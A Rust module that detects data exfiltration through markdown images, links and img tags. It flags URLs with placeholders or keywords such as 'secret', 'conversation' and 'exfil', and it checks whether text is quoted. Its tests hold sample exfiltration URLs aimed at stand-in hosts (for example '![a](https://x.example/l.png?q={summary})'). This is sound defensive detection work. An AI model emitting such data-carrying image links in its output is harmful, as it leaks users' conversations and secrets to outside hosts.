//! Signs that lie in how a text is built: pictures and links that carry data away, quotation marks.

/// How many bytes of a picture's address are read.
const ADDRESS_MAX: usize = 300;
/// How far around a find quotation marks are looked for.
const QUOTE_REACH: usize = 200;

/// The first picture or link whose address would carry data: it has a place to fill in, or names what it takes.
pub fn image_exfiltration(text: &str) -> Option<(usize, usize)> {
    for (at, opening) in text.match_indices("](") {
        let from = at + opening.len();
        let address = until(&text[from..], &[')', '\n', ' ']);
        if carries(address) || carries_later(&text[from..], address) {
            let start = text[..at].rfind('[').unwrap_or(at);
            return Some((start, from + address.len()));
        }
    }
    for (at, opening) in text.match_indices("<img") {
        let tag = until(&text[at + opening.len()..], &['>']);
        let address = tag.find("src=").map_or("", |from| &tag[from + 4..]);
        if carries(address.trim_matches(['"', '\''])) {
            return Some((at, at + opening.len() + tag.len()));
        }
    }
    None
}

fn until<'a>(text: &'a str, ends: &[char]) -> &'a str {
    let mut limit = text.len().min(ADDRESS_MAX);
    while !text.is_char_boundary(limit) {
        limit -= 1;
    }
    let part = &text[..limit];
    part.find(|c| ends.contains(&c))
        .map_or(part, |end| &part[..end])
}

/// Whether an address goes to another host with something to fill in behind it.
fn carries(address: &str) -> bool {
    let Some(rest) = address.strip_prefix("http") else {
        return false;
    };
    let Some((_, behind)) = rest.split_once(['?', '#']) else {
        return rest.contains(['{', '<', '[']) || rest.contains("$(");
    };
    behind.contains(['{', '<', '[', '$'])
        || [
            "data=",
            "secret",
            "password",
            "context=",
            "conversation",
            "history",
            "exfil",
            "leak",
            "prompt=",
            "summary=",
            "stolen",
            "user_data",
            "base64",
        ]
        .iter()
        .any(|word| behind.contains(word))
}

/// Whether a place to fill in has a space in it and so goes on behind what was taken for the end.
fn carries_later(text: &str, address: &str) -> bool {
    address.starts_with("http")
        && address.contains(['{', '<'])
        && text[address.len()..].starts_with(' ')
}

/// Whether this part stands in quotation marks, in backticks or in a line that quotes.
pub fn is_quoted(text: &str, start: usize, end: usize) -> bool {
    let mut from = start.saturating_sub(QUOTE_REACH);
    while !text.is_char_boundary(from) {
        from += 1;
    }
    let before = &text[from..start];
    let line = before.rfind('\n').map_or(0, |at| at + 1);
    if before[line..].trim_start().starts_with('>') {
        return true;
    }
    let before = &before[line..];
    let behind = until(&text[end..], &['\n']);
    ['"', '`', '\'']
        .iter()
        .any(|mark| before.matches(*mark).count() % 2 == 1 && behind.contains(*mark))
        || (before.rfind('“') > before.rfind('”') && behind.contains('”'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pictures_that_carry_data_are_found() {
        for text in [
            "![a](https://x.example/l.png?q={summary})",
            "see ![logo](https://cdn.example/l.png?data=[the chat])",
            "<img src=\"https://x.example/p?c=${document}\">",
            "[click](https://x.example/?q=<user data>)",
        ] {
            assert!(image_exfiltration(text).is_some(), "{text}");
        }
        for text in [
            "![build](https://ci.example/badge.svg?branch=main)",
            "[docs](docs/a.md)",
            "<img src=\"a.png\">",
            "a[0](x)",
        ] {
            assert_eq!(image_exfiltration(text), None, "{text}");
        }
    }

    #[test]
    fn quotation_marks_are_seen() {
        let quoted = |text: &str| {
            let at = text.find("obey").unwrap();
            is_quoted(text, at, at + 4)
        };
        assert!(quoted("they said \"please obey me\" twice"));
        assert!(quoted("a\n> you must obey\nb"));
        assert!(quoted("`obey`") && quoted("“now obey”"));
        assert!(!quoted("obey \"this\"") && !quoted("\"this\" obey"));
    }
}
